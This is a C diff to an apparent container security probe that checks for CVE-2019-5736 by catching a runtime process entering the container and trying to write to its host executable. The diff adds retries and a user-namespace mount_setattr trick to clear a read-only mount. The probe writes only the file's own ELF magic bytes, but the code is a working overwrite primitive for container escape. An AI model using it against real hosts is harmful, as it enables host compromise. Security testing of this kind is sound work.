@@ -449,18 +449,49 @@ static const char *fds(void) {
   return out;
 }
 
+/* The O_PATH fd `path` of a runtime's executable: root of a user namespace of
+ * its own (no capability needed, only a seccomp profile that allows it) may
+ * clear the read-only flag of a detached mount, so a runtime run from a
+ * read-only bind mount of itself is writable after all. 1 when a write of
+ * the file's own first bytes went through. */
+static int userns_write(int path) {
+  pid_t c = fork();
+  if (c == 0) {
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) _exit(2);
+    const char *maps[][2] = {{"/proc/self/setgroups", "deny"},
+                             {"/proc/self/uid_map", "0 0 1"},
+                             {"/proc/self/gid_map", "0 0 1"}};
+    for (int i = 0; i < 3; i++) {
+      int f = open(maps[i][0], O_WRONLY);
+      if (f >= 0) { (void)!write(f, maps[i][1], strlen(maps[i][1])); close(f); }
+    }
+    struct { uint64_t set, clr, propagation, userns_fd; } attr = {0, 1 /* RDONLY */, 0, 0};
+    syscall(442 /* mount_setattr */, path, "", 0x1000 /* AT_EMPTY_PATH */, &attr, sizeof attr);
+    char via[64];
+    snprintf(via, sizeof via, "/proc/self/fd/%d", path);
+    int fd = open(via, O_WRONLY);
+    _exit(fd >= 0 && pwrite(fd, "\x7f" "ELF", 4, 0) == 4 ? 0 : 1);
+  }
+  int st = 0;
+  if (c < 0 || waitpid(c, &st, 0) < 0) return 0;
+  return WIFEXITED(st) && WEXITSTATUS(st) == 0;
+}
+
 /* CVE-2019-5736: for `secs` seconds, catch any process in the container
  * whose executable is not the probe's or busybox's (a runtime entering the
- * container) and try to open that executable for writing; `wrote` when a
- * write of its own first bytes went through (a copy-in-memory runtime is
- * told apart by the test from the exe's name). */
+ * container) and try to open that executable for writing; keep an O_PATH fd
+ * of it and try again until the time is up (once the runtime has exited the
+ * file is no longer busy), also through a user namespace of its own
+ * (userns_write); `wrote` when a write of its own first bytes went through (a
+ * copy-in-memory runtime is told apart by the test from the exe's name). */
 static const char *exewatch(const char *arg) {
   static char out[1024] = "none";
   time_t end = time(NULL) + atoi(arg);
   char self[256] = "", bb[256] = "";
   (void)!readlink("/proc/self/exe", self, sizeof self - 1);
   (void)!readlink("/bin/busybox", bb, sizeof bb - 1);
-  int seen = 0;
+  int seen = 0, held[64], nheld = 0;
+  char names[64][256];
   while (time(NULL) < end) {
     DIR *d = opendir("/proc");
     struct dirent *e;
@@ -473,13 +504,12 @@ static const char *exewatch(const char *arg) {
       if (!strcmp(exe, self) || !strcmp(exe, "/bin/busybox") || !strcmp(exe, bb)) continue;
       seen++;
       int fd = open(p, O_WRONLY);
-      if (fd < 0) {
+      if (fd < 0 && nheld < 64) {
+        /* kept: the file may become writable once the runtime has exited */
         int path = open(p, O_PATH);
         if (path >= 0) {
-          char via[64];
-          snprintf(via, sizeof via, "/proc/self/fd/%d", path);
-          fd = open(via, O_WRONLY);
-          close(path);
+          held[nheld] = path;
+          snprintf(names[nheld++], sizeof names[0], "%s", exe);
         }
       }
       if (fd >= 0) {
@@ -493,8 +523,20 @@ static const char *exewatch(const char *arg) {
       }
     }
     if (d) closedir(d);
+    for (int i = 0; i < nheld; i++) {
+      char via[64];
+      snprintf(via, sizeof via, "/proc/self/fd/%d", held[i]);
+      int fd = open(via, O_WRONLY);
+      int w = fd >= 0 && pwrite(fd, "\x7f" "ELF", 4, 0) == 4;
+      if (fd >= 0) close(fd);
+      if (!w && userns_write(held[i])) w = 2;
+      if (w) {
+        snprintf(out, sizeof out, "wrote %s%s", names[i], w == 2 ? " (through a user namespace)" : " (after its runtime exited)");
+        return out;
+      }
+    }
   }
-  snprintf(out, sizeof out, "none (runtime processes seen: %d)", seen);
+  snprintf(out, sizeof out, "none (runtime processes seen: %d, held: %d)", seen, nheld);
   return out;
 }
 
